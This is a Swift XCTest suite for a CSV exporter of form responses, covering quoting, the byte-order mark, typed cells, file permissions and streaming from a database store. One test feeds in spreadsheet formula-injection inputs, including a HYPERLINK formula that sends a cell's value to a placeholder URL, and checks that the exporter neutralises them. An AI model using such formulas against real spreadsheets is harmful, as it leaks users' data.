import FormEngine
import Foundation
import GRDB
import SurveyStorage
import XCTest

/// The one CSV writer, for the built-in survey's responses as for any
/// form's: RFC 4180 with CRLF, a byte-order mark, a formula guard on text,
/// numbers and acknowledgements typed, written whole or not at all.
final class FormCSVExporterTests: XCTestCase {
    private static let header = "submitted_at,name,company,years_of_experience,current_employer,approx_salary,comments,"
        + "instance_id,form_version,started_at"
    /// What ends a row of `response(…)`, submitted and started at 0.
    private static let tail = ",uuid:t,1,1970-01-01T00:00:00Z"

    private func response(
        name: String = "Ada", company: String = "", years: String = "", isCurrentEmployer: Bool = false,
        salary: String = "", comments: String = "", at seconds: TimeInterval = 0
    ) -> FormResponse {
        .survey(name: name, company: company, years: years, isCurrentEmployer: isCurrentEmployer, salary: salary,
                comments: comments, submittedAt: Date(timeIntervalSince1970: seconds), instanceID: "uuid:t")
    }

    /// The file written for `responses`, decoded by hand: String(contentsOf:)
    /// would drop the byte-order mark.
    private func document(_ responses: [FormResponse], definition: FormDefinition? = nil) throws -> String {
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        let form = try definition ?? SurveyFormFile.definition()
        try FormCSVExporter.write(form, responses: { body in try responses.forEach(body) }, to: target, replacing: false)
        return String(decoding: try Data(contentsOf: target), as: UTF8.self)
    }

    /// The one row written for `response`, without its line break.
    private func row(_ response: FormResponse, definition: FormDefinition? = nil) throws -> String {
        let text = try document([response], definition: definition)
        let afterHeader = try XCTUnwrap(text.range(of: "\r\n")).upperBound
        XCTAssertTrue(text.hasSuffix("\r\n"))
        // By bytes: "\r\n" is one Character.
        return String(decoding: text[afterHeader...].utf8.dropLast(2), as: UTF8.self)
    }

    func testHeader_isTheTimeTheQuestionsInFormOrderAndTheTrailingColumns() throws {
        XCTAssertEqual(try document([]), "\u{FEFF}" + Self.header + "\r\n")
    }

    func testRow_plainValues() throws {
        let ada = FormResponse.survey(
            name: "Ada", company: "Engines", years: "12.5", isCurrentEmployer: true, salary: "85000", comments: "Fine",
            submittedAt: Date(timeIntervalSince1970: 1_800_000_000), startedAt: Date(timeIntervalSince1970: 1_799_999_940),
            instanceID: "uuid:1"
        )
        XCTAssertEqual(try row(ada), "2027-01-15T08:00:00Z,Ada,Engines,12.5,true,85000,Fine,uuid:1,1,2027-01-15T07:59:00Z")
    }

    func testRow_blankNumbersAreEmptyAndAnUnacknowledgedAnswerIsFalse() throws {
        XCTAssertEqual(try row(response(name: "Bo")), "1970-01-01T00:00:00Z,Bo,,,false,," + Self.tail)
    }

    func testEscaping_quotesCommasAndLineBreaks() throws {
        XCTAssertEqual(
            try row(response(name: "Lovelace, Ada", company: "The \"Engine\"", comments: "one\r\ntwo")),
            "1970-01-01T00:00:00Z,\"Lovelace, Ada\",\"The \"\"Engine\"\"\",,false,,\"one\r\ntwo\"" + Self.tail
        )
    }

    // MARK: - Safe to open in a spreadsheet

    func testTheDocument_startsWithAByteOrderMark_soSpreadsheetsReadUTF8() throws {
        let text = try document([response(name: "Zoë")])
        XCTAssertEqual(Array(text.utf8.prefix(3)), [0xEF, 0xBB, 0xBF])
        XCTAssertTrue(text.contains(",Zoë,"))
    }

    func testTextThatAFormulaWouldRun_isNeutralised() throws {
        XCTAssertEqual(try row(response(name: "=HYPERLINK(\"https://x/?\"&C2,\"x\")")),
                       "1970-01-01T00:00:00Z,\"'=HYPERLINK(\"\"https://x/?\"\"&C2,\"\"x\"\")\",,,false,," + Self.tail)
        for start in ["=", "+", "-", "@"] {
            XCTAssertEqual(try row(response(company: "\(start)1+1")),
                           "1970-01-01T00:00:00Z,Ada,'\(start)1+1,,false,," + Self.tail, start)
        }
        XCTAssertEqual(try row(response(comments: "\tcmd")), "1970-01-01T00:00:00Z,Ada,,,false,,'\tcmd" + Self.tail)
        XCTAssertEqual(try row(response(comments: "\rcmd")), "1970-01-01T00:00:00Z,Ada,,,false,,\"'\rcmd\"" + Self.tail)
        XCTAssertEqual(try row(response(name: "Ada = Lovelace")), "1970-01-01T00:00:00Z,Ada = Lovelace,,,false,," + Self.tail,
                       "only a leading sign counts")
    }

    func testNumbers_areNotNeutralised() throws {
        XCTAssertEqual(try row(response(years: "0", salary: "0")), "1970-01-01T00:00:00Z,Ada,,0,false,0," + Self.tail)
        XCTAssertEqual(try row(response(years: "-5", salary: "-1000")), "1970-01-01T00:00:00Z,Ada,,-5,false,-1000," + Self.tail)
    }

    func testControlAndBidiCharacters_areDropped_lineBreaksKept() throws {
        XCTAssertEqual(try row(response(name: "A\u{1B}[31mda\u{202E}", comments: "one\u{7}\ntwo\tthree\u{2066}")),
                       "1970-01-01T00:00:00Z,A[31mda,,,false,,\"one\ntwo\tthree\"" + Self.tail)
        XCTAssertEqual(try row(response(name: "Zoë 👩🏽‍💻, Ltd.")), "1970-01-01T00:00:00Z,\"Zoë 👩🏽‍💻, Ltd.\",,,false,," + Self.tail)
    }

    func testTimestamps_areUTCWholeSeconds() throws {
        func stamp(_ seconds: TimeInterval) throws -> String {
            String(try row(response(at: seconds)).prefix { $0 != "," })
        }
        XCTAssertEqual(try stamp(0), "1970-01-01T00:00:00Z")
        XCTAssertEqual(try stamp(1_800_000_000.9), "2027-01-15T08:00:00Z")
        XCTAssertEqual(try stamp(951_782_400), "2000-02-29T00:00:00Z")
        XCTAssertEqual(try stamp(4_102_444_799), "2099-12-31T23:59:59Z")
    }

    // MARK: - Typed cells

    /// A number, a range and an acknowledgement, and an integer asked only
    /// once the acknowledgement is given.
    private static let typedForm = """
        | settings |
        |          | form_id | version |
        |          | typed   | 1       |

        | survey |
        |        | type        | name        | label       | relevant          | parameters                |
        |        | decimal     | temperature | Temperature |                   |                           |
        |        | range       | level       | Level       |                   | start=-10 end=10 step=1   |
        |        | acknowledge | consent     | Consent     |                   |                           |
        |        | integer     | count       | Count       | ${consent} = 'OK' |                           |
        |        | text        | remark      | Remark      |                   |                           |
        |        | begin repeat | member     | Member      |                   |                           |
        |        | integer     | age         | Age         |                   |                           |
        |        | end repeat  |             |             |                   |                           |
        """

    private func typed(_ answers: [(String, String, FormResponse.Kind?)]) -> FormResponse {
        FormResponse(formID: "typed", formVersion: "1", instanceID: "uuid:t", startedAt: Date(timeIntervalSince1970: 0),
                     submittedAt: Date(timeIntervalSince1970: 0),
                     answers: answers.map { FormResponse.Answer(path: $0.0, value: $0.1, kind: $0.2) })
    }

    func testTheFormsTypes_writeNumbersPlainAndAcknowledgementsAsBooleans_andAMissingAnswerEmpty() throws {
        let form = try FormDefinition(data: Data(Self.typedForm.utf8), fileName: "form.md")
        // Kinds not stored with the answers: the definition's types decide.
        let given = typed([("temperature", "-5", nil), ("level", "3", nil), ("consent", "OK", nil), ("count", "2", nil),
                           ("remark", "-5", nil), ("member[1]/age", "-1", nil)])
        let refused = typed([("temperature", "", nil), ("level", "-10", nil), ("consent", "", nil), ("remark", "", nil)])
        let text = try document([given, refused], definition: form)
        let lines = text.dropFirst().components(separatedBy: "\r\n")
        XCTAssertEqual(lines[0], "submitted_at,temperature,level,consent,count,remark,member[1]-age,instance_id,form_version,started_at")
        XCTAssertEqual(lines[1], "1970-01-01T00:00:00Z,-5,3,true,2,'-5,-1" + ",uuid:t,1,1970-01-01T00:00:00Z",
                       "a number as it is, the same text behind the formula guard")
        XCTAssertEqual(lines[2], "1970-01-01T00:00:00Z,,-10,false,,,,uuid:t,1,1970-01-01T00:00:00Z",
                       "blank number empty, blank acknowledgement false, the count not asked empty")
    }

    func testEachAnswerLandsInItsOwnColumn_whateverTheOrderAndTheAnswersBeforeIt() throws {
        let form = try FormDefinition(data: Data(Self.typedForm.utf8), fileName: "form.md")
        let responses = [
            typed([("temperature", "1", nil), ("remark", "first", nil)]),
            typed([("remark", "second", nil)]),
            typed([("remark", "third", nil), ("temperature", "3", nil)]),
        ]
        let lines = try document(responses, definition: form).dropFirst().components(separatedBy: "\r\n")
        let cells = lines[1...3].map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
        XCTAssertEqual(cells.map { $0[1] }, ["1", "", "3"], "temperature")
        XCTAssertEqual(cells.map { $0[5] }, ["first", "second", "third"], "remark")
    }

    func testAStoredKindTypesTheCell_evenWithoutTheFormsFile() throws {
        let response = typed([("when", "-3", .number), ("ok", "OK", .boolean), ("not", "", .boolean), ("text", "-3", nil)])
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        try FormCSVExporter.write(nil, responses: { body in try body(response) }, to: target, replacing: false)
        let lines = String(decoding: try Data(contentsOf: target), as: UTF8.self).dropFirst().components(separatedBy: "\r\n")
        XCTAssertEqual(lines[0], "submitted_at,not,ok,text,when,instance_id,form_version,started_at", "alphabetical without the file")
        XCTAssertEqual(lines[1], "1970-01-01T00:00:00Z,false,true,'-3,-3,uuid:t,1,1970-01-01T00:00:00Z")
    }

    func testANumberAnswerThatIsNoNumber_isTextWithItsGuard() throws {
        let form = try FormDefinition(data: Data(Self.typedForm.utf8), fileName: "form.md")
        let odd = typed([("temperature", "=1+1", .number), ("level", "inf", .number)])
        let line = try row(odd, definition: form)
        XCTAssertTrue(line.hasPrefix("1970-01-01T00:00:00Z,'=1+1,inf,,"), "an acknowledgement not stored is empty, not false: \(line)")
    }

    func testEachQuestionTypeHasItsKind() throws {
        XCTAssertEqual(FormResponse.Kind(QuestionType.integer), .number)
        XCTAssertEqual(FormResponse.Kind(QuestionType.decimal), .number)
        XCTAssertEqual(FormResponse.Kind(QuestionType.range), .number)
        XCTAssertEqual(FormResponse.Kind(QuestionType.acknowledge), .boolean)
        XCTAssertNil(FormResponse.Kind(QuestionType.text))
        XCTAssertNil(FormResponse.Kind(QuestionType.selectOne))
        let form = try FormDefinition(data: Data(Self.typedForm.utf8), fileName: "form.md")
        XCTAssertEqual(FormCSVExporter.answerKinds(of: form), [
            "temperature": .number, "level": .number, "consent": .boolean, "count": .number, "member/age": .number,
        ])
    }

    // MARK: - Writing the file

    private func mode(_ url: URL) throws -> Int {
        try (FileManager.default.attributesOfItem(atPath: url.path)[.posixPermissions] as! NSNumber).intValue
    }

    private func writeNothing(to url: URL, replacing: Bool) throws {
        try FormCSVExporter.write(try SurveyFormFile.definition(), responses: { _ in }, to: url, replacing: replacing)
    }

    func testWrite_makesANewFileTheOwnersOnly_andLeavesNoTemporaryFile() throws {
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        try writeNothing(to: target, replacing: false)
        XCTAssertEqual(try mode(target), 0o600)
        XCTAssertEqual(try folder.contents(), ["export.csv"])
    }

    func testWrite_refusesAnExistingFile_unlessReplacing_andKeepsItsMode() throws {
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        try Data("yesterday".utf8).write(to: target)
        chmod(target.path, 0o640)
        XCTAssertThrowsError(try writeNothing(to: target, replacing: false)) { error in
            XCTAssertEqual((error as? StorageError)?.code, .fileExists)
        }
        XCTAssertEqual(try String(contentsOf: target, encoding: .utf8), "yesterday")

        try writeNothing(to: target, replacing: true)
        XCTAssertEqual(try Data(contentsOf: target), Data(("\u{FEFF}" + Self.header + "\r\n").utf8))
        XCTAssertEqual(try mode(target), 0o640)
        XCTAssertEqual(try folder.contents(), ["export.csv"])
    }

    func testWrite_replacesALinkItself_neverItsTarget() throws {
        let folder = try TemporaryDirectory()
        let precious = folder.url.appendingPathComponent("precious")
        try Data("keep".utf8).write(to: precious)
        let link = folder.url.appendingPathComponent("export.csv")
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: precious)

        XCTAssertThrowsError(try writeNothing(to: link, replacing: false))
        try writeNothing(to: link, replacing: true)
        XCTAssertEqual(try String(contentsOf: precious, encoding: .utf8), "keep")
        XCTAssertNil(try? FileManager.default.destinationOfSymbolicLink(atPath: link.path))
        XCTAssertEqual(try Data(contentsOf: link), Data(("\u{FEFF}" + Self.header + "\r\n").utf8))
    }

    func testWrite_toMissingFolderReportsError() throws {
        let target = URL(fileURLWithPath: "/nonexistent-\(UUID().uuidString)/export.csv")
        XCTAssertThrowsError(try writeNothing(to: target, replacing: false)) { error in
            XCTAssertTrue((error as? StorageError)?.message.contains("export") == true)
        }
    }

    // MARK: - Streaming from the store

    func testWriteFromTheStore_isTheDocumentOfItsResponses_acrossManyPieces() throws {
        let folder = try TemporaryDirectory()
        let store = try ResponseStore(directory: folder.url.appendingPathComponent("data"))
        // Enough rows for several 64 KiB pieces.
        var responses: [FormResponse] = []
        for index in 1...1_500 {
            responses.append(try store.insert(.survey(
                name: "Respondent \(index)", years: String(index % 40), isCurrentEmployer: index % 2 == 0,
                comments: String(repeating: "x", count: 60), submittedAt: Date(timeIntervalSince1970: Double(index))
            )))
        }
        let form = try SurveyFormFile.definition()
        let fromStore = folder.url.appendingPathComponent("store.csv")
        XCTAssertEqual(try FormCSVExporter.write(form, from: store, to: fromStore, replacing: false), 1_500)
        let fromList = folder.url.appendingPathComponent("list.csv")
        try FormCSVExporter.write(form, responses: { body in try responses.forEach(body) }, to: fromList, replacing: false)

        let written = try Data(contentsOf: fromStore)
        XCTAssertGreaterThan(written.count, 3 * 65_536)
        XCTAssertEqual(written, try Data(contentsOf: fromList))
        XCTAssertEqual(String(decoding: written, as: UTF8.self).components(separatedBy: "\r\n").filter { !$0.isEmpty }.count, 1_501)
    }

    /// Rows the store did not write itself (an older release's times, a
    /// tool's JSON) are read the slow way, and their cells are the same.
    func testRowsInAnotherShape_exportAsTheirResponses() throws {
        let folder = try TemporaryDirectory()
        let store = try ResponseStore(directory: folder.url)
        let stored = try store.insert(.survey(name: "Ada", years: "2.5", isCurrentEmployer: true, comments: "a \"b\", c",
                                              submittedAt: Date(timeIntervalSince1970: 1_800_000_000.75)))
        let form = try SurveyFormFile.definition()
        let before = folder.url.appendingPathComponent("before.csv")
        try FormCSVExporter.write(form, from: store, to: before, replacing: false)

        let queue = try DatabaseQueue(path: folder.url.appendingPathComponent(ResponseStore.fileName).path)
        try queue.write { db in
            try db.execute(sql: """
                UPDATE form_response SET submittedAt = '2027-01-15T08:00:00.750Z', startedAt = ?,
                answers = ' [ { "p\\u0061th" : "name", "value" : "Ada" }, {"path":"years_of_experience","value":"2.5","kind":"number"},
                  {"kind":"boolean","path":"current_employer","value":"OK"}, {"path":"comments","value":"a \\"b\\", c"} ] '
                WHERE id = ?
                """, arguments: [1_800_000_000.75, stored.id])
        }
        try queue.close()
        let after = folder.url.appendingPathComponent("after.csv")
        try FormCSVExporter.write(form, from: store, to: after, replacing: false)
        let document = String(decoding: try Data(contentsOf: after), as: UTF8.self)
        XCTAssertTrue(document.contains("2027-01-15T08:00:00Z,Ada,,2.5,true,,\"a \"\"b\"\", c\","), document)
        XCTAssertEqual(try Data(contentsOf: after), try Data(contentsOf: before))
    }
}
